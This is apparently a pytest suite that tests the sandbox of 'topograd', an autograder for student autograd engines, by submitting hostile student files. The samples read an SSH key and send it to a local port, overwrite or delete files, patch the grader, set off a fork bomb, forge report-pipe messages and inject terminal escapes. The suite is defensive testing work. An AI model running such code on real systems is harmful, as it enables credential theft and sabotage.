"""Students as attackers: each attack is a file a student would hand in, graded by
``topograd grade`` run as an unprivileged teacher would run it (as root, the grader drops to
nobody after importing what it needs, as the file-permission tests do), with topograd
installed where that teacher can write. Each test asserts the grade the file must get and that
nothing outside the sandbox changed: a key and a note in the teacher's fake home, a
classmate's file, the installed grader, a listening local port that must receive nothing, and
no process left behind.

Where an attack would have worked, the file breaks its own engine (``escaped = True`` turns
``backward`` into a no-op), so a pass also says the attack failed inside the sandbox.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from topograd.grading import sandbox
from topograd.grading.inside.probes import PROBES
from topograd.grading.lesson import drawn

pytestmark = pytest.mark.skipif(
    bool(sandbox.unavailable()), reason=f"no sandbox here: {sandbox.unavailable()}"
)

CORRECT = (Path(__file__).parent / "engines" / "lesson_engine.py").read_text()
SOURCE = Path(__file__).parent.parent / "src" / "topograd"
NOBODY = 65534
FOOTER = "\nif escaped:\n    Value.backward = lambda self: None  # the attack worked: fail\n"

# Runs the CLI as the teacher: as root, import everything first, then become nobody.
LAUNCH = """
import os, sys
site, home = sys.argv[1], sys.argv[2]
sys.path.insert(0, site)
import topograd.cli
import topograd.grading
if os.geteuid() == 0:
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
os.environ["HOME"] = home
sys.exit(topograd.cli.main(sys.argv[3:]))
"""


@dataclass
class Classroom:
    """A teacher's world: a fake home with a key and a note, a classmate's file, topograd
    installed where the teacher can write, and a port listening on this machine."""

    root: Path
    site: Path
    listener: socket.socket

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def key(self) -> Path:
        return self.home / ".ssh" / "id_ed25519"

    @property
    def note(self) -> Path:
        return self.home / "notes.txt"

    @property
    def classmate(self) -> Path:
        return self.root / "class" / "classmate.py"

    @property
    def installed(self) -> Path:
        return self.site / "topograd" / "grading" / "objectives.py"

    @property
    def mark(self) -> str:
        """In the command line of every process an attack starts (unique to this test)."""
        return f"topograd-attack-{self.root.name}"

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def protected(self) -> dict[str, str]:
        """A digest of everything outside the sandbox an attack may aim at."""
        files = (self.key, self.note, self.classmate, self.installed)
        found = {str(f): hashlib.sha256(f.read_bytes()).hexdigest() for f in files}
        found["home"] = " ".join(sorted(p.name for p in self.home.rglob("*")))
        return found

    def submit(self, source: str, name: str = "attack.py") -> Path:
        path = self.root / "class" / name
        source = source.replace("HOME", str(self.home)).replace("PORT", str(self.port))
        path.write_text(source.replace("MARK", self.mark))
        give_to_teacher(path)
        return path


def give_to_teacher(path: Path) -> None:
    if os.geteuid() == 0:
        os.chown(path, NOBODY, NOBODY)


@pytest.fixture(scope="module")
def site() -> Iterator[Path]:
    """topograd installed where the teacher may write it (a copy owned by the teacher)."""
    folder = Path(tempfile.mkdtemp(prefix="topograd-site-"))  # (pytest's own: nobody can't pass)
    shutil.copytree(SOURCE, folder / "topograd", ignore=shutil.ignore_patterns("__pycache__"))
    folder.chmod(0o755)
    for path in [folder, *folder.rglob("*")]:
        give_to_teacher(path)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def classroom(site: Path) -> Iterator[Classroom]:
    root = Path(tempfile.mkdtemp(prefix="topograd-class-"))
    root.chmod(0o755)
    (root / "home" / ".ssh").mkdir(parents=True)
    (root / "class").mkdir()
    (root / "home" / ".ssh" / "id_ed25519").write_text("the teacher's key\n")
    (root / "home" / "notes.txt").write_text("marks of the class\n")
    (root / "class" / "classmate.py").write_text(CORRECT)
    for path in [root, *root.rglob("*")]:
        give_to_teacher(path)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    room = Classroom(root, site, listener)
    before = room.protected()
    yield room
    assert room.protected() == before, "an attack changed a file outside the sandbox"
    with pytest.raises(BlockingIOError):
        listener.accept()  # nothing connected to the teacher's port
    listener.close()
    assert not marked_processes(room.mark), "an attack left a process running"
    shutil.rmtree(root, ignore_errors=True)


def marked_processes(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if mark.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def graded(room: Classroom, file: Path, *options: str) -> tuple[int, dict[str, Any], float]:
    """The CLI's status, its JSON report and the seconds it took, run as the teacher."""
    command = [sys.executable, "-c", LAUNCH, str(room.site), str(room.home), "grade"]
    start = time.monotonic()
    ran = subprocess.run(
        [*command, str(file), "--json", *options], capture_output=True, timeout=180, check=False
    )
    took = time.monotonic() - start
    assert ran.stdout, ran.stderr.decode()
    return ran.returncode, json.loads(ran.stdout), took


def rows(report: dict[str, Any]) -> dict[str, tuple[str, str]]:
    return {row["id"]: (row["status"], row["text"]) for row in report["objectives"]}


ESCAPES: dict[str, str] = {
    "reads the teacher's key and sends it to a local port": """
import os, socket
escaped = False
for path in ("HOME/.ssh/id_ed25519", os.path.expanduser("~/.ssh/id_ed25519")):
    try:
        key = open(path).read()
        escaped = True
    except OSError:
        key = "nothing"
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(key.encode())
    escaped = True
except OSError:
    pass
""",
    "overwrites a classmate's file and deletes the teacher's note": """
import os
escaped = False
for target in ("HOME/../class/classmate.py",):
    try:
        open(target, "w").write("class Value: pass\\n")
        escaped = True
    except OSError:
        pass
try:
    os.remove("HOME/notes.txt")
    escaped = True
except OSError:
    pass
""",
    "patches the installed grader": """
import glob
escaped = False
targets = glob.glob("/grader/inside/*.py") + glob.glob("HOME/../../**/objectives.py")
for target in [*targets, "SITE/topograd/grading/objectives.py"]:
    try:
        open(target, "a").write("\\n# patched\\n")
        escaped = True
    except OSError:
        pass
""",
    "lifts its memory limit": """
import resource
escaped = False
for kind in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        escaped = True
    except (ValueError, OSError):
        pass
try:
    hoard = bytearray(16 * 2**30)
    escaped = True
except MemoryError:
    pass
""",
    "leaves a daemon running": """
import os, subprocess, sys
escaped = False
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "MARK"])
    os._exit(0)
""",
    "forks until it cannot": """
import os, time
escaped = False
children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
except OSError:
    pass
""",
}


@pytest.mark.parametrize("attack", ESCAPES)
def test_an_attack_on_the_teachers_world_changes_nothing(classroom: Classroom, attack: str) -> None:
    source = ESCAPES[attack].replace("SITE", str(classroom.site)) + CORRECT + FOOTER
    status, report, _ = graded(classroom, classroom.submit(source), "--timeout", "5")
    assert (status, report["status"], report["passed"]) == (0, 0, True), report


def test_without_the_sandbox_the_same_file_gets_out(classroom: Classroom) -> None:
    """The control: graded with --unsafe-no-sandbox, the first attack reads the key (and so
    fails its own engine), which is what the sandbox above prevents."""
    source = ESCAPES["reads the teacher's key and sends it to a local port"]
    source = source.replace("PORT", "9")  # (the discard port: nothing listens there)
    status, report, _ = graded(
        classroom, classroom.submit(source + CORRECT + FOOTER), "--unsafe-no-sandbox"
    )
    assert status == report["status"] == 1
    assert rows(report)["implemented"] == (
        "fail",
        "not written yet: backward (its body is empty): every other check builds on __add__, "
        "__mul__ and backward(), so write those first",
    )


FIND_CHANNEL = """
import os, stat
def channels():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
"""

MISCHIEF_ON_BACKWARD = """
honest_backward = Value.backward
def backward(self):
    mischief()
    honest_backward(self)
Value.backward = backward
"""
MISCHIEF: dict[str, tuple[str, str]] = {
    # attack: (mischief(), run as the first backward() starts; what the report must say)
    "a thread chatters {} on the report pipe": (
        FIND_CHANNEL
        + """
import threading, time
def chatter():
    while True:
        for fd in channels():
            os.write(fd, b"{}\\n")
        time.sleep(1)
def mischief():
    threading.Thread(target=chatter, daemon=True).start()
    time.sleep(0.1)
""",
        "a message that is not a frame",
    ),
    "a forged event of the wrong type": (
        FIND_CHANNEL
        + """
import json
def mischief():
    forged = json.dumps({"done": 5, "numbers": []}).encode()
    for fd in channels():
        os.write(fd, b"%08x" % len(forged) + forged)
""",
        "a message of the wrong shape",
    ),
    "a forged pass for a probe not asked yet": (
        FIND_CHANNEL
        + """
import json
def mischief():
    forged = json.dumps({"done": "lesson", "numbers": {"value": 0.7071}}).encode()
    for fd in channels():
        os.write(fd, b"%08x" % len(forged) + forged)
""",
        "a message out of order",
    ),
    "a frame larger than any message": (
        FIND_CHANNEL
        + """
def mischief():
    for fd in channels():
        os.write(fd, b"%08x" % (2**31) + b"{" * 4096)
""",
        "a message that is not a frame",
    ),
}


@pytest.mark.parametrize("attack", MISCHIEF)
def test_a_child_that_talks_out_of_turn_fails_and_the_grader_stands(
    classroom: Classroom, attack: str
) -> None:
    code, words = MISCHIEF[attack]
    file = classroom.submit(CORRECT + code + MISCHIEF_ON_BACKWARD)
    status, report, took = graded(classroom, file, "--timeout", "3", "--deadline", "60")
    assert status == report["status"] == 1
    lost = [text for state, text in rows(report).values() if words in text]
    assert lost and took < 60, (took, rows(report))


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        ("subclasses topograd's Value", "from topograd import Value as Engine\n"),
        ("swaps the probe table to measure topograd", "import topograd.grading.inside.probes\n"),
    ],
)
def test_a_file_that_uses_topograd_is_told_so(classroom: Classroom, attack: str, code: str) -> None:
    status, report, _ = graded(classroom, classroom.submit(code + CORRECT))
    assert status == report["status"] == 2
    assert report["load_error"].startswith("the file imports topograd"), report


def test_an_engine_right_only_when_it_sees_the_grader_is_failed(classroom: Classroom) -> None:
    wrong_unless_graded = CORRECT.replace(
        "self.grad += other.data * out.grad",
        "self.grad += (other.data if 'topograd' in sys.modules else 1.0) * out.grad",
    )
    source = "import sys\n" + wrong_unless_graded
    status, report, _ = graded(classroom, classroom.submit(source))
    assert status == 1 and rows(report)["mul"][0] == "fail", rows(report)


def test_signal_40_is_named_and_the_rest_is_graded(classroom: Classroom) -> None:
    source = CORRECT.replace(
        "    def tanh(self):\n", "    def tanh(self):\n        os.kill(os.getpid(), 40)\n"
    )
    status, report, _ = graded(classroom, classroom.submit("import os\n" + source))
    assert status == 1
    assert rows(report)["tanh"] == ("fail", "tanh(x): the process died of signal 40")
    assert rows(report)["mul"][0] == "pass"


def test_the_whole_grade_has_one_deadline(classroom: Classroom) -> None:
    """Each op takes a little under the probe's timeout: without a deadline for the whole
    grade, 35 probes would take minutes."""
    slow = CORRECT.replace(
        "    def __add__(self, other):\n",
        "    def __add__(self, other):\n        time.sleep(1.5)\n",
    )
    file = classroom.submit("import time\n" + slow)
    status, report, took = graded(classroom, file, "--timeout", "2", "--deadline", "8")
    assert status == 1 and took < 16, took
    texts = [text for _, text in rows(report).values()]
    assert any("deadline of 8 s passed" in text for text in texts), texts


def test_killing_the_grader_kills_what_the_child_started(classroom: Classroom) -> None:
    hangs = CORRECT.replace(
        "    def __mul__(self, other):\n",
        "    def __mul__(self, other):\n        while True:\n            pass\n",
    )
    daemon = (
        "import subprocess, sys\n"
        'subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "MARK"])\n'
    )
    file = classroom.submit(daemon + hangs)
    command = [sys.executable, "-c", LAUNCH, str(classroom.site), str(classroom.home)]
    grader = subprocess.Popen([*command, "grade", str(file)], stdout=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while not marked_processes(classroom.mark) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marked_processes(classroom.mark), "the child never started its process"
    grader.send_signal(signal.SIGKILL)
    grader.wait()
    deadline = time.monotonic() + 5
    while marked_processes(classroom.mark) and time.monotonic() < deadline:
        time.sleep(0.05)
    # (the classroom fixture asserts that no marked process is left)


REPLAY = """
import json
RECORDED = json.loads(RECORDING)
for fd in channels():
    for message in RECORDED:
        payload = json.dumps(message).encode()
        os.write(fd, b"%08x" % len(payload) + payload)
os._exit(0)
"""
RECORDED_AT = 271828  # the seed of the recorded run


def recording(seed: int) -> list[dict[str, Any]]:
    """What a correct engine's child sends, probe by probe, at the points of ``seed``."""
    engine: dict[str, Any] = {}
    exec(compile(CORRECT, "lesson_engine.py", "exec"), engine)
    at = drawn(seed).sent()
    run = [{"loaded": "Value"}]
    return run + [
        {"done": name, "numbers": probe(engine["Value"], at)} for name, probe in PROBES.items()
    ]


def test_a_recorded_correct_run_replayed_fails(classroom: Classroom) -> None:
    """A file with no engine writes a correct engine's recorded messages onto the report pipe.
    At the recording's own points (``--seed``) that passes: the frames are right. Graded as
    a teacher grades, at points drawn afresh, the numbers are of the wrong points."""
    replay = REPLAY.replace("RECORDING", repr(json.dumps(recording(RECORDED_AT))))
    file = classroom.submit(FIND_CHANNEL + replay)
    status, report, _ = graded(classroom, file, "--seed", str(RECORDED_AT))
    assert status == 0 and report["seed"] == RECORDED_AT, rows(report)
    status, report, _ = graded(classroom, file)
    assert status == report["status"] == 1 and report["seed"] != RECORDED_AT
    failed = [name for name, (state, _) in rows(report).items() if state == "fail"]
    drawn_here = {"value", "rules", "add", "mul", "tanh", "accumulate", "numbers"}
    assert failed and failed[0] in drawn_here, rows(report)  # numbers of the wrong points


def test_the_child_is_sent_the_points_but_never_the_seed(classroom: Classroom) -> None:
    """The file finds the request the child read and says, in its load error, what it holds."""
    spy = """
import inspect, json
frames = [f.frame.f_locals for f in inspect.stack()]
request = next(found["request"] for found in frames if "request" in found)
raise RuntimeError(f"{sorted(request)} {sorted(request['points'])} {'SEED' in json.dumps(request)}")
"""
    seed = 3141592653
    status, report, _ = graded(
        classroom, classroom.submit(spy.replace("SEED", str(seed))), "--seed", str(seed)
    )
    assert status == 2 and report["seed"] == seed
    assert report["load_error"].endswith(" False"), report["load_error"]
    assert "'seed'" not in report["load_error"] and "'points'" in report["load_error"]
    assert "'op.mul'" in report["load_error"] and "'diamond'" in report["load_error"]


def table_of(room: Classroom, file: Path, *options: str) -> subprocess.CompletedProcess[bytes]:
    """The CLI's table, run as the teacher."""
    command = [sys.executable, "-c", LAUNCH, str(room.site), str(room.home), "grade", str(file)]
    return subprocess.run([*command, *options], capture_output=True, timeout=180, check=False)


FAKE_PASS = "\\x1b[2J\\x1b[H25 objectives: 25 passed; every required objective passes.\\n"


def test_terminal_escapes_in_names_and_errors_are_shown_escaped(classroom: Classroom) -> None:
    """The class renames itself and tanh raises with an escape sequence that would clear the
    teacher's screen and print a fake pass; a bidirectional override would reorder the line."""
    source = CORRECT.replace(
        "    def tanh(self):\n",
        f'    def tanh(self):\n        raise RuntimeError("{FAKE_PASS}\\u202e")\n',
    )
    source += f'\nValue.__name__ = "V{FAKE_PASS}"\n'
    ran = table_of(classroom, classroom.submit(source), "--seed", "1")
    assert ran.returncode == 1, ran.stderr
    out = ran.stdout.decode()
    assert not any(c in out for c in "\x1b\u202e\r") and out.count("\n") < 80
    assert "Grading V\\x1b[2J\\x1b[H25 objectives: 25 passed" in out
    assert "RuntimeError: \\x1b[2J\\x1b[H25 objectives" in out and "\\u202e" in out
    assert out.rstrip().endswith("the engine fails.")


def test_a_five_megabyte_name_and_error_give_a_short_report(classroom: Classroom) -> None:
    source = CORRECT.replace(
        "    def tanh(self):\n",
        '    def tanh(self):\n        raise RuntimeError("e" * 5_000_000)\n',
    )
    source += '\nValue.__name__ = "V" * 5_000_000\n'
    ran = table_of(classroom, classroom.submit(source))
    assert ran.returncode == 1 and len(ran.stdout) < 20_000, len(ran.stdout)
    status, report, _ = graded(classroom, classroom.submit(source, "again.py"))
    assert status == 1 and len(json.dumps(report)) < 40_000
    assert rows(report)["tanh"][0] == "fail" and rows(report)["mul"][0] == "pass"


FORGED_SHAPES = """
import json
def mischief():
    forged = json.dumps({"done": "seed", "numbers": {"nothing": 1.0}}).encode()
    for fd in channels():
        os.write(fd, b"%08x" % len(forged) + forged)
    os._exit(0)
"""


def test_a_forged_message_of_the_right_shape_without_the_numbers_fails(
    classroom: Classroom,
) -> None:
    """The first backward() is the seed probe's: there the file sends the probe's message
    itself, well framed, in turn and of the right shape, without the numbers the probe sends."""
    file = classroom.submit(CORRECT + FIND_CHANNEL + FORGED_SHAPES + MISCHIEF_ON_BACKWARD)
    status, report, _ = graded(classroom, file)
    assert status == report["status"] == 1, report
    texts = " ".join(text for _, text in rows(report).values())
    assert "not its probe's" in texts, rows(report)


def slug(attack: str) -> str:
    """A file name for an attack: "reads the teacher's key ..." -> "reads_the_teacher_s_key"."""
    return re.sub(r"\W+", "_", attack)[:24].strip("_")


def test_every_attack_in_one_batch_gets_its_grade(classroom: Classroom) -> None:
    """The whole class of attacks handed in together and graded as a teacher grades a class:
    one batch, each file in a sandbox of its own, the summary table checked line by line (and
    printed: ``pytest -s`` shows it). The classroom fixture then checks that nothing outside
    the sandboxes changed, nothing connected to the port and no process is left."""
    expected = {"classmate": "pass"}
    for attack, code in ESCAPES.items():
        source = code.replace("SITE", str(classroom.site)) + CORRECT + FOOTER
        classroom.submit(source, f"{slug(attack)}.py")
        expected[slug(attack)] = "pass"  # the attack failed: the engine passes
    for attack, (code, _) in MISCHIEF.items():
        classroom.submit(CORRECT + code + MISCHIEF_ON_BACKWARD, f"{slug(attack)}.py")
        expected[slug(attack)] = "FAIL"
    classroom.submit("from topograd import Value as Engine\n" + CORRECT, "subclass.py")
    classroom.submit("import topograd.grading.inside.probes\n" + CORRECT, "swap.py")
    expected.update(subclass="cannot load", swap="cannot load")
    replay = REPLAY.replace("RECORDING", repr(json.dumps(recording(RECORDED_AT))))
    classroom.submit(FIND_CHANNEL + replay, "replay.py")
    classroom.submit(
        "import os\n"
        + CORRECT.replace(
            "    def tanh(self):\n", "    def tanh(self):\n        os.kill(os.getpid(), 40)\n"
        ),
        "signal40.py",
    )
    escapes = CORRECT + f'\nValue.__name__ = "V{FAKE_PASS}"\n'
    classroom.submit(escapes, "escapes.py")
    expected.update(replay="FAIL", signal40="FAIL", escapes="pass")
    command = [sys.executable, "-c", LAUNCH, str(classroom.site), str(classroom.home), "grade"]
    files = sorted(str(p) for p in (classroom.root / "class").glob("*.py"))
    out = classroom.root / "reports"
    ran = subprocess.run(
        [*command, *files, "--out", str(out), "--timeout", "5", "--deadline", "60"],
        capture_output=True,
        timeout=900,
        check=False,
    )
    table = ran.stdout.decode()
    print(table)
    assert ran.returncode == 2, ran.stderr.decode()[-2000:]
    got = {}
    for line in table.splitlines()[1 : len(files) + 1]:
        name, rest = line.split(maxsplit=1)
        got[name] = "cannot load" if rest.startswith("cannot load") else rest.split()[0]
    assert got == expected
    assert "\x1b" not in table
    shutil.rmtree(out)  # (the fixture compares the teacher's home and the class, not reports)


FORGED_NUMBERS = """
import json
honest_mul = Value.__mul__
def forging_mul(self, other):
    if other == 2 and not isinstance(other, Value):  # the numbers probe's x * 2
        forged = {"done": "numbers", "numbers": {"x * 2.error": 1.5}}
        payload = json.dumps(forged).encode()
        for fd in channels():
            os.write(fd, b"%08x" % len(payload) + payload)
        os._exit(0)
    return honest_mul(self, other)
Value.__mul__ = forging_mul
"""


def test_numbers_of_the_wrong_type_where_text_belongs_fail_that_objective(
    classroom: Classroom,
) -> None:
    """In turn and of the right shape, the numbers probe's message says its error is 1.5: the
    submission fails that objective, the grader does not fail (status 3)."""
    file = classroom.submit(CORRECT + FIND_CHANNEL + FORGED_NUMBERS)
    status, report, _ = graded(classroom, file)
    assert status == report["status"] == 1, report
    assert rows(report)["numbers"] == (
        "fail",
        "x * 2: the child's error is not a text (not its probe's)",
    )
